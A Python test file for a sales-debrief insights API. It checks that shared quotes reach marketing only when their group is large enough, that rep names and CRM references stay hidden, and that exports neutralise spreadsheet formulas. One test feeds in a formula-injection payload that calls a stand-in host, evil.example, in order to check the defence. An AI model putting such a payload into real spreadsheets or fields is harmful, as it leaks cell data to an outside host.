"""Shared quotes for marketing: only quotes reps chose to share, only under reasons
whose count is shown, attributes only where their group is shown, never the rep or the
account."""

from __future__ import annotations

import csv
import io

import openpyxl
from helpers.insight_world import made_in, own_month
from helpers.server_world import People


def quotes(api, month: str, **params) -> dict:
    answer = api.get("/api/v1/insights/quotes", params={"from": month, "to": month, **params})
    assert answer.status_code == 200, answer.text
    return answer.json()


def lost(new_debrief, month: str, industry: str, stage: str, quote: str | None,
         share: bool = True, day: int = 3) -> dict:
    return new_debrief(segment={"industry": industry, "company_size": "200-999",
                                "region": "dach"}, stage=stage, quote=quote,
                       share_quote=share, crm_ref="OPP-secret-42",
                       **made_in(month, day=day))


def test_quotes_show_only_where_their_groups_are_shown(people: People, new_debrief):
    month = own_month()
    ann, bob, cy = people("rep"), people("rep"), people("rep")
    ann.api.push(*[lost(new_debrief, month, "software", "evaluation",
                        "They said our price was the real problem.") for _ in range(3)])
    bob.api.push(*[lost(new_debrief, month, "software", "evaluation", None)
                   for _ in range(3)])
    cy.api.push(lost(new_debrief, month, "retail", "selection",
                     "Only the retail chain in Leeds told us this."),
                lost(new_debrief, month, "software", "evaluation", None, share=False))
    marketing = people("marketing").api
    body = quotes(marketing, month)
    texts = [quote["text"] for quote in body["quotes"]]
    assert set(texts) == {"They said our price was the real problem.",
                          "Only the retail chain in Leeds told us this."}
    assert {quote["code"] for quote in body["quotes"]} == {"price.too_high",
                                                           "competitor.cheaper"}
    for quote in body["quotes"]:
        assert quote["month"] == month and quote["outcome"] == "lost"
        if "Leeds" in quote["text"]:  # its industry and stage groups hold one debrief
            assert quote["industry"] == quote["stage"] == "withheld"
    text = str(body)
    assert "OPP-secret-42" not in text
    assert not any(rep.username in text for rep in (ann, bob, cy))
    only = quotes(marketing, month, q="REAL PROBLEM", code="price.too_high")
    assert [quote["text"] for quote in only["quotes"]] == [
        "They said our price was the real problem."] * 3


def test_a_quote_from_a_cell_too_small_is_never_listed(people: People, new_debrief):
    month = own_month()
    people("rep").api.push(*[lost(new_debrief, month, "software", "evaluation",
                                  "One rep's words only") for _ in range(8)])
    assert quotes(people("marketing").api, month)["quotes"] == []


def test_quote_questions_out_of_range_are_a_422(people: People):
    marketing = people("marketing").api
    for params, name in (({"from": "2026-06", "to": "2026-01"}, "to"),
                         ({"code": "x" * 100}, "code"), ({"q": "x" * 1000}, "q")):
        answer = marketing.get("/api/v1/insights/quotes", params=params)
        assert answer.status_code == 422, params
        assert answer.json()["detail"][0]["loc"] == ["query", name]
    assert people("rep").api.get("/api/v1/insights/quotes").status_code == 403


def test_quotes_export_holds_what_the_route_lists_with_formulas_made_inert(
        people: People, new_debrief):
    month = own_month()
    payload = '=HYPERLINK("http://evil.example/?"&A1,"price")'
    ann, bob = people("rep"), people("rep")
    ann.api.push(*[lost(new_debrief, month, "software", "evaluation", payload)
                   for _ in range(3)])
    bob.api.push(*[lost(new_debrief, month, "software", "evaluation",
                        "@SUM(1+1) was their word for our price") for _ in range(3)])
    marketing = people("marketing").api
    listed = quotes(marketing, month, limit=100)["quotes"]
    assert len(listed) == 12  # 6 quotes, each under its two reasons
    params = {"from": month, "to": month}

    exported = marketing.get("/api/v1/exports/quotes.json", params=params)
    assert exported.status_code == 200, exported.text
    body = exported.json()
    assert body["schema"] == "debrief.shared-quotes/1"
    assert [(row["quote"], row["reason_code"], row["industry"]) for row in body["rows"]] == [
        (quote["text"], quote["code"], quote["industry"]) for quote in listed]
    assert body["rows"][0]["reason_label"] and "OPP-secret-42" not in exported.text

    text = marketing.get("/api/v1/exports/quotes.csv",
                         params={**params, "dialect": "excel"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["quote"] for row in rows] == ["'" + quote["text"] for quote in listed]

    workbook = marketing.get("/api/v1/exports/quotes.xlsx", params=params)
    assert workbook.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content))["Quotes"]
    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [quote["text"] for quote in listed]
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
    assert people("rep").api.get("/api/v1/exports/quotes.csv",
                                 params=params).status_code == 403
